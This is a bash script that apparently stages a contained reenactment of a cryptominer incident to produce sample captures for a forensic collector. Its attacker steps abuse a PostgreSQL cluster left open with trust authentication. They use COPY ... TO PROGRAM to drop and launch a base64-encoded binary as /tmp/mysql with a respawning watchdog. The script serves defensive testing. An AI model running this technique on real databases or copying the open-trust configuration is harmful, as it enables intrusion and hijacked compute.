#!/usr/bin/env bash
# samples/reenact.sh: stage the incident of
# shared/scenario/incident-report-ci-build-agent-miner.txt on this machine,
# with real parts, benignly, and collect it with cordon-collect.
#
#   - two network namespaces joined by a veth pair: "victim" (10.213.0.1)
#     and "attacker" (10.213.0.2); nothing leaves them;
#   - in the victim: a PostgreSQL 15 cluster (Debian's pg_createcluster)
#     listening on all interfaces, port 5432, with trust authentication for
#     every address; and a stand-in mining pool on 127.0.0.1:3333;
#   - cordon-collect starts in the victim, capturing lo and the veth,
#     with --capture-lead so that the capture sees the attack;
#   - the attacker connects over TCP as postgres, stores a payload in a
#     table and runs COPY ... TO PROGRAM to drop it as /tmp/mysql, then
#     COPY ... TO PROGRAM to start it; it deletes its binary, runs a
#     watchdog ("init") that respawns the miner ("mysql"), which logs in to
#     the pool with a stratum line and burns a little CPU;
#   - the responder's first kill of the miner: the watchdog respawns it;
#   - cordon-collect snapshots, finishes, and everything staged is removed.
#
# Needs root, gcc, iproute2 and Debian's postgresql-15 (pg_createcluster).
# Usage: samples/reenact.sh OUT.cordon [extra cordon-collect flags...]
# It also writes OUT.dropped.sha256: the SHA-256 of the file the attacker dropped.
set -euo pipefail
cd "$(dirname "$0")/.."

OUT=${1:?usage: samples/reenact.sh OUT.cordon [cordon-collect flags]}
shift
[ "$(id -u)" = 0 ] || { echo "reenact: needs root" >&2; exit 2; }

VNS=cordon-victim ANS=cordon-attacker
VIP=10.213.0.1 AIP=10.213.0.2
VETH_V=cordon-v VETH_A=cordon-a
PGVER=15 CLUSTER=cordonreenact PGPORT=5432
WORK=$(mktemp -d /tmp/cordon-reenact.XXXXXX)
chmod 755 "$WORK"
log() { echo "reenact: $*" >&2; }

cleanup() {
  set +e
  [ -n "${COLLECT_PID:-}" ] && kill "$COLLECT_PID" 2>/dev/null
  # the stand-in's watchdog and miner: every process whose executable is the
  # deleted /tmp/mysql, or the pool
  for exe in /proc/[0-9]*/exe; do
    t=$(readlink "$exe" 2>/dev/null) || continue
    case "$t" in "/tmp/mysql"*|"$WORK/standin"*)
      pid=${exe#/proc/}; kill -9 "${pid%/exe}" 2>/dev/null ;;
    esac
  done
  [ -n "${ATTACK_PID:-}" ] && kill "$ATTACK_PID" 2>/dev/null
  pg_dropcluster --stop "$PGVER" "$CLUSTER" >/dev/null 2>&1
  ip netns del "$VNS" 2>/dev/null
  ip netns del "$ANS" 2>/dev/null
  rm -f /tmp/mysql
  rm -rf "$WORK"
}
trap cleanup EXIT

log "building the stand-in and the collector"
gcc -O2 -o "$WORK/standin" samples/standin/standin.c
CGO_ENABLED=0 go build -o "$WORK/cordon-collect" ./cmd/cordon-collect
sha256sum "$WORK/standin" | cut -d' ' -f1 > "$OUT.dropped.sha256"

log "network namespaces $VNS ($VIP) and $ANS ($AIP)"
ip netns del "$VNS" 2>/dev/null || true
ip netns del "$ANS" 2>/dev/null || true
ip netns add "$VNS"
ip netns add "$ANS"
ip link add "$VETH_V" type veth peer name "$VETH_A"
ip link set "$VETH_V" netns "$VNS"
ip link set "$VETH_A" netns "$ANS"
ip -n "$VNS" addr add "$VIP/24" dev "$VETH_V"
ip -n "$ANS" addr add "$AIP/24" dev "$VETH_A"
for ns in "$VNS" "$ANS"; do ip -n "$ns" link set lo up; done
ip -n "$VNS" link set "$VETH_V" up
ip -n "$ANS" link set "$VETH_A" up

log "PostgreSQL $PGVER cluster $CLUSTER on *:$PGPORT with trust for every address"
pg_dropcluster --stop "$PGVER" "$CLUSTER" >/dev/null 2>&1 || true
pg_createcluster "$PGVER" "$CLUSTER" -p "$PGPORT" -- --auth=trust >/dev/null
conf=/etc/postgresql/$PGVER/$CLUSTER
cat >> "$conf/postgresql.conf" <<CONF
# as the CI pipeline's container had it (docker run -p 5432:5432 -e POSTGRES_HOST_AUTH_METHOD=trust)
listen_addresses = '*'
log_connections = on
log_disconnections = on
log_statement = 'all'
CONF
echo "host all all all trust" >> "$conf/pg_hba.conf"
ip netns exec "$VNS" pg_ctlcluster --skip-systemctl-redirect "$PGVER" "$CLUSTER" start
for _ in $(seq 50); do
  ip netns exec "$ANS" pg_isready -q -h "$VIP" -p "$PGPORT" && break
  sleep 0.2
done

log "stand-in pool on 127.0.0.1:3333 in $VNS"
ip netns exec "$VNS" env CORDON_STANDIN_LIFETIME=300 "$WORK/standin" pool 3333 &

log "cordon-collect starts, capturing lo and $VETH_V"
ip netns exec "$VNS" "$WORK/cordon-collect" -o "$OUT" --force \
  --case CORDON-SAMPLE-REENACT --examiner "samples/reenact.sh" \
  --note "benign reenactment of shared/scenario/incident-report-ci-build-agent-miner.txt" \
  --capture lo --capture "$VETH_V" --capture-lead 12s --capture-for 24s \
  "$@" &
COLLECT_PID=$!
sleep 2

log "attacker $AIP connects to $VIP:$PGPORT and drops /tmp/mysql through COPY ... TO PROGRAM"
payload=$(base64 -w0 "$WORK/standin")
ip netns exec "$ANS" psql -X -q -h "$VIP" -p "$PGPORT" -U postgres -d postgres -v ON_ERROR_STOP=1 >/dev/null <<SQL
SELECT version();
CREATE TABLE IF NOT EXISTS cordon_payload(b text);
INSERT INTO cordon_payload VALUES ('$payload');
COPY cordon_payload TO PROGRAM 'base64 -d > /tmp/mysql && chmod 755 /tmp/mysql';
DROP TABLE cordon_payload;
SQL
# The second session starts the dropped binary; COPY waits for the program,
# so the watchdog stays a child of its PostgreSQL backend, as in the incident.
ip netns exec "$ANS" psql -X -q -h "$VIP" -p "$PGPORT" -U postgres -d postgres \
  -c "COPY (SELECT 1) TO PROGRAM 'exec /tmp/mysql >/dev/null 2>&1'" >/dev/null 2>&1 &
ATTACK_PID=$!

sleep 4
miner=""
for exe in /proc/[0-9]*/exe; do
  t=$(readlink "$exe" 2>/dev/null) || continue
  pid=${exe#/proc/}; pid=${pid%/exe}
  [ "$t" = "/tmp/mysql (deleted)" ] && [ "$(cat /proc/$pid/comm 2>/dev/null)" = mysql ] && miner=$pid
done
if [ -n "$miner" ]; then
  log "the responder's first kill: miner PID $miner (the watchdog respawns it)"
  kill -9 "$miner"
else
  log "warning: no miner found to kill"
fi

log "waiting for cordon-collect"
set +e
wait "$COLLECT_PID"
rc=$?
set -e
COLLECT_PID=""
log "cordon-collect exited $rc; bundle $OUT"
[ "$rc" -le 1 ] || exit "$rc"
